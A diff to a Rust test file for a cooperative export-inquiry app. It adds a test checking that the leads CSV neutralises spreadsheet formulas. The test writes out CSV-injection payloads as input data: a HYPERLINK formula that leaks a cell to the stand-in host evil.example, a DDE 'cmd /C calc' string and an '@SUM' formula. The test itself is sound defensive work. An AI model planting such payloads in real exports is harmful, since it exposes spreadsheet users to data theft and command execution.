@@ -1,13 +1,13 @@
 //! Export inquiries against real SQLite and real PostgreSQL: what a buyer sends is checked and
 //! stored, bots and floods are turned away, each cooperative sees only its own leads, leads move
 //! only along the pipeline, new ones are pushed live, and the CSV export survives commas, quotes,
-//! newlines and Vietnamese.
+//! newlines and Vietnamese and never hands a spreadsheet a formula.
 mod common;
 
 use app::db::{Db, Sql};
 use app::error::AppError;
 use app::inquiries::model::{InquiryForm, LeadStatus};
-use app::inquiries::service::{self, Scope, Submitted};
+use app::inquiries::service::{self, LeadRange, Scope, Submitted};
 use app::live::hub::Hub;
 use app::live::model::{Event, ServerFrame, Topic};
 use common::scalar;
@@ -239,6 +239,16 @@ async fn leads_move_only_along_the_pipeline(db: Db) {
     assert!(!replied.is_empty() && replied.iter().all(|l| l.status == LeadStatus::Replied));
 }
 
+/// The whole leads CSV of `scope`, as a download receives it.
+async fn leads_csv(db: &Db, scope: Scope) -> Vec<u8> {
+    let mut rx = service::csv(db.clone(), scope, LeadRange::default());
+    let mut all = Vec::new();
+    while let Some(chunk) = rx.recv().await {
+        all.extend_from_slice(&chunk);
+    }
+    all
+}
+
 async fn the_csv_export_keeps_commas_quotes_newlines_and_vietnamese(db: Db) {
     app::seed::seed(&db).await.expect("seed");
     let hub = Hub::new();
@@ -247,7 +257,7 @@ async fn the_csv_export_keeps_commas_quotes_newlines_and_vietnamese(db: Db) {
     f.message = "Dòng một, có dấu phẩy\nDòng hai: \"trích dẫn\"".into();
     stored(&db, &hub, &f, "10.1.1.1").await;
     stored(&db, &hub, &form("hong-phat", "Other coop's buyer"), "10.1.1.2").await;
-    let bytes = service::csv(&db, Scope::Cooperative(binh_minh)).await.expect("csv");
+    let bytes = leads_csv(&db, Scope::Cooperative(binh_minh)).await;
     assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "a byte-order mark for spreadsheet programs");
     let mut reader = csv::Reader::from_reader(&bytes[3..]);
     let headers = reader.headers().expect("headers").clone();
@@ -265,11 +275,37 @@ async fn the_csv_export_keeps_commas_quotes_newlines_and_vietnamese(db: Db) {
         text.contains("\"Công ty TNHH Chè \"\"Sạch\"\", Hà Nội\""),
         "quotes doubled inside a quoted cell"
     );
-    let all = service::csv(&db, Scope::Province).await.expect("csv");
+    let all = leads_csv(&db, Scope::Province).await;
     assert_eq!(csv::Reader::from_reader(&all[3..]).records().count(), 2, "the department gets every lead");
 }
 
+/// A buyer's text cannot become a formula in the cooperative's spreadsheet: the leads CSV
+/// neutralises every text cell that starts one, on the cooperative's and the department's file.
+async fn the_leads_csv_never_hands_a_spreadsheet_a_formula(db: Db) {
+    app::seed::seed(&db).await.expect("seed");
+    let hub = Hub::new();
+    let binh_minh = coop_id(&db, "binh-minh").await;
+    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Xem báo giá\")";
+    let mut f = form("binh-minh", hyperlink);
+    f.message = "-2+3+cmd|' /C calc'!A0".into();
+    f.packaging = "@SUM(A1:A9)".into();
+    stored(&db, &hub, &f, "10.1.1.1").await;
+    for scope in [Scope::Cooperative(binh_minh), Scope::Province] {
+        let bytes = leads_csv(&db, scope).await;
+        let mut reader = csv::Reader::from_reader(&bytes[3..]);
+        let headers = reader.headers().expect("headers").clone();
+        let row = reader.records().next().expect("one lead").expect("record");
+        let get = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect("cell");
+        assert_eq!(get("company"), format!("'{hyperlink}"));
+        assert_eq!(get("message"), "'-2+3+cmd|' /C calc'!A0");
+        assert_eq!(get("packaging"), "'@SUM(A1:A9)");
+        assert_eq!(get("quantity"), "2000", "our numbers stay numbers");
+        assert_eq!(get("country"), "United Kingdom");
+    }
+}
+
 on_both_databases!(
+    the_leads_csv_never_hands_a_spreadsheet_a_formula,
     an_inquiry_is_stored_pushed_live_and_seen_only_by_its_cooperative,
     bots_floods_and_bad_forms_are_turned_away,
     leads_move_only_along_the_pipeline,
